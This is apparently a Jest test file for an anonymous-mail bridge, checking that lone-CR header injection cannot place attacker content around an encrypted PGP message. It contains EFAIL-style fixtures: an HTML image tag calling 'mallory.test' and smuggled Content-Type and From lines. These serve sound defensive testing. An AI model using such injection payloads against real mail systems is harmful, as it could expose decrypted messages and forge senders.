import { beforeAll, describe, expect, test } from '@jest/globals';
import { readArticle } from '../../src/incoming/article';
import { decrypt } from '../../src/incoming/decrypt';
import { makeDelivery } from '../../src/incoming/delivery/mail';
import type { Contact, Nym } from '../../src/nym';
import { fieldText, readHeader, readStructure } from '../../src/protocol/mime';
import { readReply } from '../../src/protocol/nymserv';
import { makeArticle } from '../support/article';
import { sealedByServer } from '../support/forAlice';
import { publicKey, secretKey } from '../support/keys';
import { aliceActive, start } from '../support/nyms';
import { entity, inlineToAlice, pgpMimeToAlice, sealedToAlice } from '../support/pgpMail';

// What is judged of a mail has to be what its reader gets. Mallory has Bob's letter to Alice as it went, encrypted, and writes around it.

let alice: Nym;
let bobs: Buffer;
beforeAll(async () => {
  const made = await aliceActive();
  made.store.close();
  const bob: Contact = { address: 'bob@example.org', key: await publicKey('bob'), encrypt: 'always', sign: false };
  alice = { ...made.alice, contacts: [bob] };
  bobs = await sealedToAlice(entity('at noon\r\n'), { signer: await secretKey('bob') });
});

/** What Alice reads of a mail that the nym server has got for her. */
async function shown(mail: Buffer) {
  const article = readArticle(makeArticle({ body: await sealedByServer(mail) }));
  const finding = await decrypt(article, alice, 'hsub', { now: start });
  if (finding.kind !== 'opened') throw new Error(finding.kind);
  const reply = readReply(finding.payload);
  const nym = { address: 'panda@nym.test', domain: 'nym.test' };
  const { source } = makeDelivery({ article, scheme: 'hsub', finding, reply, nym, now: start });
  const { fields, end } = readHeader(source);
  const values = (name: string) => fields.filter((one) => one.name.toLowerCase() === name).map(fieldText);
  return { values, body: source.toString('latin1', end), root: readStructure(source).root, endToEnd: finding.endToEnd };
}

const image = '<img src="http://mallory.test/?';

/** A field with lines behind it that are lines only once a lone CR ends one. */
const hiding = (...lines: readonly string[]) => ['X-A: b', ...lines].join('\r');

describe('a lone CR in the header', () => {
  test('puts no words of Mallory’s in front of Bob’s: EFAIL would have the image carry them off', async () => {
    const { endToEnd, body } = await shown(
      pgpMimeToAlice(bobs, { fields: [hiding('Content-Type: text/html', '', image)] }),
    );
    expect(endToEnd?.kind).toBe('mixed');
    expect(body).toContain(image);
    expect(body).not.toContain('at noon');
  });

  test('puts none there as the last of the header either: what stands before the parts of PGP/MIME is not shown', async () => {
    const mail = pgpMimeToAlice(bobs);
    const at = mail.indexOf('\n\n');
    const tail = Buffer.from(`\n${hiding('Content-Type: text/html', '', image)}`);
    const { root, body } = await shown(Buffer.concat([mail.subarray(0, at), tail, mail.subarray(at)]));
    expect([root.subtype, body]).toEqual(['plain', 'at noon\r\n']);
  });

  test('hides no second sender from the verdict: two names are nobody’s', async () => {
    const { values } = await shown(pgpMimeToAlice(bobs, { fields: [hiding('From: Carol <carol@example.org>')] }));
    expect(values('from')).toHaveLength(2);
    expect(values('x-nymbridge-encryption')).toEqual([expect.stringMatching(/^opened; signature=not-the-sender/)]);
  });

  test('in the mbox line changes nothing: that line is not shown', async () => {
    const mbox = Buffer.from(`From bob@example.org\rFrom: carol@example.org\n`);
    const { values } = await shown(Buffer.concat([mbox, pgpMimeToAlice(bobs)]));
    expect(values('x-nymbridge-encryption')).toEqual([expect.stringMatching(/^opened; signature=good/)]);
  });
});

describe('inside the encryption', () => {
  test('a lone CR hides no stolen message that its reader would have in front of them', async () => {
    const stolen = bobs.toString().replaceAll('\n', '\r');
    for (const inside of [entity(`hello\r${stolen}`), `hello\r${stolen}`]) {
      expect((await shown(pgpMimeToAlice(await sealedToAlice(inside)))).endToEnd?.kind).toBe('mixed');
      expect((await shown(inlineToAlice(await sealedToAlice(inside)))).endToEnd?.kind).toBe('mixed');
    }
  });
});
